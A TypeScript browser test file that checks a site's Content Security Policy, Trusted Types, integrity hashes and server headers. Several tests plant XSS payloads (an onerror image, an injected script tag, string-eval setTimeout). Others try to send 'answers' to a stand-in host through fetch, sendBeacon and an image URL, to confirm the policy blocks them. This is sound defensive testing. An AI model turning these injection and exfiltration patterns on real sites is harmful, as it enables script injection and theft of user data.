import { appendFileSync, cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { styleDigestIn, styleDigestsOf } from '../../build/page-style.ts'
import { headersFor } from '../../build/policy.ts'
import { dist, openBrowser, type Site, serveSite } from '../support/browser/browser.ts'
import { everyCase, walk } from '../support/journey/walk.ts'

let browser: Browser
let site: Site
beforeAll(async () => {
  site = await serveSite()
  browser = await openBrowser()
})
afterAll(async () => {
  await browser?.close()
  site?.server.close()
})

/** A fresh page that notes each violation of the policy, and each policy of trusted types it makes. */
const watchedPage = async (): Promise<Page> => {
  const page = await (await browser.newContext()).newPage()
  await page.addInitScript(() => {
    const noted = window as unknown as { violations: string[]; policies: unknown[] }
    noted.violations = []
    noted.policies = []
    document.addEventListener('securitypolicyviolation', (e) =>
      noted.violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    )
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
    }
    const make = trustedTypes.createPolicy.bind(trustedTypes)
    Object.defineProperty(trustedTypes, 'createPolicy', {
      value: (name: string, rules: object) => {
        const policy = make(name, rules)
        noted.policies.push(policy)
        return policy
      },
    })
  })
  return page
}
const violations = (page: Page) =>
  page.evaluate(() => (window as unknown as { violations: readonly string[] }).violations)
const kept = (page: Page) => page.waitForFunction(() => navigator.serviceWorker.controller !== null)
/** What comes of running something in the page: its value, or the name of what it throws. */
const tried = (page: Page, body: string) =>
  page.evaluate(body).then(
    (value) => `done: ${String(value)}`,
    (error: Error) => /(TypeError|SecurityError|EvalError|NetworkError)/.exec(error.message)?.[1] ?? error.message,
  )

test('a whole journey breaks no rule of the policy', async () => {
  const page = await watchedPage()
  await page.goto(`${site.address}fr/`)
  await kept(page)
  const worked = everyCase().find(({ name }) => name === 'w03')
  await walk(page, worked?.case.answers ?? {})
  await page.click('.language')
  await page.waitForSelector('.headline')
  await page.pdf()
  expect(await violations(page)).toEqual([])
  await page.context().close()
})

test('a script planted in the page is not run, a changed one is not taken, and a style is not applied', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'cadrage-'))
  cpSync(dist, folder, { recursive: true })
  const file = join(folder, 'fr', 'index.html')
  writeFileSync(
    file,
    readFileSync(file, 'utf8').replace(
      '<div id="app"',
      '<script>window.planted = 1</script><style>#app{color:red}</style><img src="data:," onerror="window.planted = 1"><p style="color:red"></p>$&',
    ),
  )
  for (const part of ['assets', 'boot'])
    for (const script of readdirSync(join(folder, part)).filter((name) => name.endsWith('.js')))
      appendFileSync(join(folder, part, script), '\nwindow.changed = 1')
  const planted = await serveSite(folder)
  const page = await watchedPage()
  await page.goto(`${planted.address}fr/`)
  const found = await violations(page)
  for (const directive of ['script-src-elem', 'style-src-elem', 'style-src-attr', 'img-src'])
    expect(
      found.some((v) => v.startsWith(directive)),
      directive,
    ).toBe(true)
  expect(await page.evaluate(() => ['planted' in window, 'changed' in window])).toEqual([false, false])
  await page.click('.button.main')
  expect(await page.locator('fieldset').count(), 'a script that is not ours starts nothing').toBe(0)
  await page.context().close()
  planted.server.close()
  rmSync(folder, { recursive: true })
})

test('an app that was changed is not taken: the page stays as it was rendered', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'cadrage-'))
  cpSync(dist, folder, { recursive: true })
  const [app = ''] = readdirSync(join(folder, 'assets')).filter((name) => /^main-.*\.js$/.test(name))
  appendFileSync(join(folder, 'assets', app), '\nwindow.changed = 1')
  const changed = await serveSite(folder)
  const page = await (await browser.newContext({ serviceWorkers: 'block' })).newPage()
  const refused = page.waitForEvent('pageerror')
  await page.goto(`${changed.address}en/question/`)
  expect((await refused).message).toContain(app)
  expect(await page.evaluate(() => 'changed' in window)).toBe(false)
  expect(await page.locator('button[type="submit"]').count()).toBe(0)
  expect(await page.locator('fieldset').count()).toBe(1)
  await page.context().close()
  changed.server.close()
  rmSync(folder, { recursive: true })
})

test('only the site’s own worker can be started, by its one policy', async () => {
  const page = await watchedPage()
  await page.goto(`${site.address}fr/`)
  await kept(page)
  expect(await tried(page, "navigator.serviceWorker.register('/service-worker.js')")).toBe('TypeError')
  expect(await tried(page, "new Worker('/service-worker.js')")).toBe('TypeError')
  expect(await tried(page, "trustedTypes.createPolicy('cadrage', { createScriptURL: (a) => a })")).toBe('TypeError')
  expect(await tried(page, "trustedTypes.createPolicy('another', { createScriptURL: (a) => a })")).toBe('TypeError')
  expect(await tried(page, 'policies.length')).toBe('done: 1')
  for (const address of [
    '/other.js',
    'https://elsewhere.example/service-worker.js',
    `${site.address}service-worker.js?x`,
  ])
    expect(await tried(page, `policies[0].createScriptURL(${JSON.stringify(address)})`), address).toBe('TypeError')
  const own = JSON.stringify(`${site.address}service-worker.js`)
  expect(await tried(page, `policies[0].createScriptURL(${own})`)).toBe(`done: ${site.address}service-worker.js`)
  await page.context().close()
})

test('no text becomes code or markup, and no answer can be sent to another site', async () => {
  const page = await watchedPage()
  await page.goto(`${site.address}en/`)
  await page.waitForSelector('h1')
  expect(await tried(page, "document.body.innerHTML = '<img src=x onerror=alert(1)>'")).toBe('TypeError')
  expect(await tried(page, "document.createElement('script').text = 'window.planted = 1'")).toBe('TypeError')
  expect(await tried(page, "setTimeout('window.planted = 1')")).toBe('TypeError')
  expect(await tried(page, "fetch('https://elsewhere.example/')")).toBe('TypeError')
  await tried(page, "navigator.sendBeacon('https://elsewhere.example/', 'answers')")
  await tried(page, "new Image().src = 'https://elsewhere.example/?answers'")
  await tried(
    page,
    "Object.assign(document.body.appendChild(document.createElement('form')), { action: '/' }).submit()",
  )
  await page.waitForFunction(() => (window as unknown as { violations: string[] }).violations.length >= 7)
  const found = (await violations(page)).join('\n')
  for (const directive of ['connect-src', 'img-src', 'form-action']) expect(found).toContain(directive)
  await page.context().close()
})

const pages = ['index.html', ...['fr', 'en'].flatMap((lang) => [`${lang}/index.html`, `${lang}/question/index.html`])]
test.each(pages)(
  '%s names only files it can check, and holds no code and one style, which its policy admits',
  (name) => {
    const html = readFileSync(join(dist, name), 'utf8')
    const tags = html.match(/<(?:script|link)\b[^>]*>/g) ?? []
    const toCheck = tags.filter((tag) => /\.(?:js|css)"/.test(tag))
    expect(toCheck.length).toBeGreaterThanOrEqual(2)
    for (const tag of toCheck) expect(tag).toMatch(/ integrity="sha384-[\w+/]{64}"/)
    expect(html.match(/<style/g)).toHaveLength(1)
    expect(html).toContain(`style-src 'self' '${styleDigestIn(html)}';`)
    expect(html).not.toMatch(
      /\sstyle=|\son\w+=|<script(?![^>]*\ssrc=)|\ssrc="(?:https?:)?\/\/|<link[^>]+href="(?:https?:)?\/\//,
    )
  },
)

test.each(['', 'fr/', 'en/', 'fr/question/', 'en/question/', 'service-worker.js', 'licences.txt', 'nowhere'])(
  'the server sends the same headers with /%s as the files for hosts say',
  async (path) => {
    const response = await fetch(site.address + path)
    for (const [name, value] of Object.entries(headersFor(styleDigestsOf(dist))))
      expect(response.headers.get(name), name).toBe(value)
    expect(response.status).toBe(path === 'nowhere' ? 404 : 200)
    expect(response.headers.get('cache-control')).toBe('no-cache')
  },
)
test('files named by their content may be kept for good; a folder is asked for with its slash', async () => {
  const [asset = ''] = readdirSync(join(dist, 'assets'))
  expect((await fetch(`${site.address}assets/${asset}`)).headers.get('cache-control')).toContain('immutable')
  const moved = await fetch(`${site.address}fr`, { redirect: 'manual' })
  expect([moved.status, moved.headers.get('location')]).toEqual([301, 'fr/'])
  const manifest = await fetch(`${site.address}en/cadrage.webmanifest`)
  expect(manifest.headers.get('content-type')).toBe('application/manifest+json')
  const { icons, start_url } = (await manifest.json()) as { icons: { src: string }[]; start_url: string }
  for (const address of [start_url, ...icons.map(({ src }) => src)])
    expect((await fetch(new URL(address, `${site.address}en/`))).status, address).toBe(200)
})
